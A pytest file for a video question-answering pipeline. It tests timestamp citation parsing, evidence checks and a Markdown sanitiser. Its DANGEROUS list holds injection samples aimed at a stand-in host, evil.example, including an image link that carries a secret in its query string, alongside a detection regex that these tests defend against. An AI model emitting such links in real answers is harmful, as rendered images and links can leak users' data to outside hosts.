"""Times in answers, and answers that are safe to draw."""

import random
import re

import pytest

from pipeline.chat.citations import check, cue, find, uncited
from pipeline.chat.markup import neutralise
from pipeline.times import stamp
from pipeline.types import Evidence, Frame, Moment, Passage


@pytest.mark.parametrize(
    ("text", "times"),
    [
        ("It falls [1:02].", [62]),
        ("[01:02] and [12:34]", [62, 754]),
        ("[1:02:03]", [3723]),
        ("[00:01:02]", [62]),
        ("[75:30]", [4530]),
        ("[1:02-1:30]", [62]),
        ("[01:02 - 01:30]", [62]),
        ("[1:02–1:30]", [62]),
        ("[1:02 to 1:30]", [62]),
        ("[0:10, 0:25]", [10, 25]),
        ("[0:10; 0:25 and 1:00:00]", [10, 25, 3600]),
        ("[0:10][0:25]", [10, 25]),
        ("(1:02)", [62]),
        ("(at 1:02 and 1:30)", [62, 90]),
        ("(see 1:02–1:30)", [62]),
        ("[1:02 said]", [62]),
        ("[see slide at 1:02]", [62]),
        ("【1:02】", [62]),
        ("[1:02.5]", [62]),
        ("The ratio is 16:9, at 10:30 we meet", []),
        ("(John 3:16)", []),
        ("[meet at 10:30 am]", []),
        ("[1:75]", []),
        ("[1:2]", []),
        ("[1:99:10]", []),
        ("[12345]", []),
        ("[Music] and [1]", []),
        ("[1:02", []),
        ("", []),
    ],
)
def test_times_are_found_as_models_write_them(text: str, times: list[float]) -> None:
    found = find(text)
    assert [seconds for _, _, seconds in found] == times
    for start, end, seconds in found:
        assert re.match(r"\d", text[start:end])
        assert stamp(seconds).lstrip("0:").split(":")[-1] in text[start:end]


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0:00"), (9.99, "0:09"), (62, "1:02"), (3599.9, "59:59"), (3600, "1:00:00"), (36_061, "10:01:01")],
)
def test_stamps(seconds: float, text: str) -> None:
    assert stamp(seconds) == text
    assert not seconds or [s for _, _, s in find(f"[{text}]")] == [int(seconds)]


def test_a_time_is_supported_by_the_evidence_that_was_sent() -> None:
    moment = Moment("a", 62.7, 90, 1, (Passage(62.7, 90, "x", "speech"),), (Frame(200, 230, "f.jpg"),))
    cited = check("[1:02] [1:15] [1:31] [1:40] [3:45] [4:10] [1:02]", Evidence("?", (moment,)))
    assert [(c.time, c.supported) for c in cited] == [
        (62, True),
        (75, True),
        (91, True),
        (100, False),
        (225, True),
        (250, False),
    ]


def test_a_time_between_two_sentences_is_supported_only_by_a_picture() -> None:
    said = (Passage(60, 64, "One.", "speech"), Passage(75, 80, "Two.", "speech"))
    moment = Moment("a", 60, 80, 1, said)
    times = "[1:00] [1:05] [1:09] [1:14] [1:20]"
    assert [c.supported for c in check(times, Evidence("?", (moment,)))] == [True, True, False, True, True]
    shown = Moment("a", 60, 80, 1, said, (Frame(66, 72, "f.jpg"),))
    assert all(c.supported for c in check(times, Evidence("?", (shown,))))


@pytest.mark.parametrize(
    "text",
    [
        "The loss falls [1:02].",
        "The loss falls. [1:02]",
        "The loss falls. [1:02][1:05]",
        "The loss falls. [1:02] It rises. [1:05] It stays [1:09].",
        "[1:02] The loss falls. [1:05] It rises. [1:09] It stays.",
        "**[1:02]** The loss falls. **[1:05]** It rises.",
        "“The loss falls.” (1:02)",
        "The loss, e.g. with Adam, is 3.5 and falls by 0.2 vs. SGD [1:02].",
        "Dr. J. Smith of the U.S. Army says so [1:02].",
        "They use it for 1.5 h, i.e. 90 min. [1:02]",
        "損失は下がる[1:02]。それから上がる。[1:05]",
        "Why does it fall? なぜ？",
        "Hello! Sure. Yes, it does. You’re welcome! Sorry about that. If you have more questions, let me know.",
        "I do not find it in the video.",
        "I couldn't find anything about cars in the evidence.",
        "The video does not mention a red car.",
        "This does not seem to be in the video. The nearest is a blue one [1:02].",
        "It is not specified. No information about it was found.",
        "The steps are:\n\n1. Mix it. Then stir it [0:10].\n2. **Bake**: 20 min (0:30)",
        "## Steps\n\n**In short**\n\n- Mix it [0:10]\n- Bake it [0:30]\n\n---",
        "| step | time |\n|---|---|\n| mix | [0:10] |\n| bake | [0:30] |",
        "It says this [0:10]:\n```\nx = 1. Then more. And more.\n```",
        "The loss\nfalls [1:02].",
        "It is mentioned at [0:10] and [0:30]. These are the ones found. There may be more.",
        "In all, 2 places were found: [0:10], [0:30].",
        "",
    ],
)
def test_an_answer_that_cites_what_it_states_has_no_uncited_sentence(text: str) -> None:
    assert uncited(text) == ()


@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        ("The loss falls.", ["The loss falls."]),
        ("The loss falls [1:02]. It rises.", ["It rises."]),
        ("It rises. The loss falls [1:02].", ["It rises."]),
        ("It falls. [1:02] It rises. It stays. [1:09]", ["It rises."]),
        ("“It falls.” [1:02] “It rises.”", ["“It rises.”"]),
        ("At 10:30 we meet.", ["At 10:30 we meet."]),
        ("He says “stop”. Is it so? It is 3.5 at most.", ["He says “stop”.", "It is 3.5 at most."]),
        ("He does not use dropout.", ["He does not use dropout."]),
        ("If you mix it, it gets hot. Sure, the loss falls.", ["If you mix it, it gets hot.", "Sure, the loss falls."]),
        ("No, the loss rises. Photosynthesis.", ["No, the loss rises.", "Photosynthesis."]),
        ("損失は下がる。次に上がる[1:05]。", ["損失は下がる。"]),
        ("- Mix it [0:10]\n- Bake it\n* **Cool it**: on a rack", ["Bake it", "**Cool it**: on a rack"]),
        ("| step | time |\n|---|---|\n| mix | [0:10] |\n| bake | none |", ["| bake | none |"]),
        ("The loss falls [1:02]\nIt rises", ["It rises"]),
        ("It shows this:\n```\nx = 1\n```\nThen it ends.", ["Then it ends."]),
    ],
)
def test_a_sentence_that_states_something_without_a_time_is_named(text: str, sentences: list[str]) -> None:
    assert list(uncited(text)) == sentences


def test_whatever_is_written_every_uncited_sentence_stands_in_the_text() -> None:
    chance = random.Random(1)
    signs = [
        "It falls",
        ". ",
        "[1:02]",
        "\n",
        "- ",
        "| ",
        "```",
        "**",
        "e.g.",
        "?",
        ":",
        "。",
        "…",
        "(0:05)",
        " ",
        "1. ",
        "“",
        "”",
    ]
    for _ in range(1000):
        text = "".join(chance.choice(signs) for _ in range(12))
        found = uncited(text)
        assert all(one and one in text and not find(one) for one in found), text
        assert list(found[: len(uncited(text, whole=False))]) == list(uncited(text, whole=False))


DANGEROUS = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "![ref]\n\n[ref]:\nhttps://evil.example/a.png",
    "[click](https://evil.example)",
    "[click](<https://evil.example>)",
    "<img src='https://evil.example/a.png'>",
    "<https://evil.example>",
    "https://evil.example/path",
    "www.evil.example",
    "WWW.evil.example",
    "http\\://evil.example",
    "http:\\//evil.example",
    "http&#58;//evil.example",
    "mail me@evil.example",
    "`![x](https://evil.example)",
    "> ![x](//evil.example/a.png)",
    "1. ![a\n](https://evil.example/a.png)",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    ":material/home: :red[danger] :smile:",
    ":red-background[a]{style=x}",
    "1:02[swallowed]",
]
# What a Markdown renderer needs joined to link, load or colour anything.
LIVE = re.compile(
    r"\]\(|\]\[|\]:|<[A-Za-z/!?]|:\\?/\\?/|www\.|&#?\w+;|\w@\w|:[\w\u2060-]+[\[{]|:material/|:smile:", re.IGNORECASE
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_that_links_or_loads_survives_at_any_point_of_the_stream(text: str) -> None:
    assert LIVE.search(text)
    for end in range(len(text) + 1):
        assert not LIVE.search(neutralise(text[:end]))


def test_nothing_survives_whatever_is_put_together() -> None:
    chance = random.Random(0)
    for _ in range(3000):
        text = "".join(
            chance.choice(
                [
                    "]",
                    "(",
                    "[",
                    "!",
                    "<",
                    ">",
                    "http",
                    ":",
                    "//",
                    "www",
                    ".",
                    "a",
                    "`",
                    "\\",
                    "\n",
                    "&#58;",
                    "$",
                    "@",
                    ":red",
                ]
            )
            for _ in range(14)
        )
        assert not LIVE.search(neutralise(text)), text


def test_plain_formatting_and_times_stay() -> None:
    text = "**Bold** and *soft* [1:02], (1:05):\n\n- one\n- `a[0] == b`\n\n1. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert neutralise(text) == text


def test_prices_are_no_formula_and_code_keeps_its_dollars() -> None:
    assert neutralise("from $5 to $6 in `$HOME`") == r"from \$5 to \$6 in `$HOME`"
    assert neutralise(r"\$5 to \\$6") == r"\$5 to \\\$6"
    assert neutralise("```\necho $A\n```\n$B") == "```\necho $A\n```\n\\$B"


def test_times_are_still_found_in_what_is_drawn() -> None:
    text = neutralise("It falls [1:02][1:05]: see https://evil.example")
    assert [seconds for _, _, seconds in find(text)] == [62, 65]


@pytest.mark.parametrize(
    ("item", "time"),
    [
        (Passage(69.97, 89.9, "a slide", "screen"), 70.0),  # at 69 s another slide still stands
        (Passage(69.97, 89.9, "words", "speech"), 69.97),  # none of them is cut off
        (Frame(7.1, 50.8, "frames/7.jpg"), 8.0),
        (Passage(7.1, 50.8, "A red car.", "caption", "frames/7.jpg"), 8.0),
        (Frame(7.0, 50.8, "frames/7.jpg"), 7.0),
        (Frame(7.1, 7.4, "frames/7.jpg"), 7.1),  # gone before the next second
        (Moment("m", 69.97, 89.9, 1.0, (Passage(69.97, 89.9, "a slide", "screen"),)), 70.0),
        (Moment("m", 60.5, 89.9, 1.0, (Passage(69.97, 89.9, "a slide", "screen"),)), 60.5),
    ],
)
def test_what_is_shown_is_cited_by_the_first_whole_second_in_which_it_stands(item, time):
    assert cue(item) == time
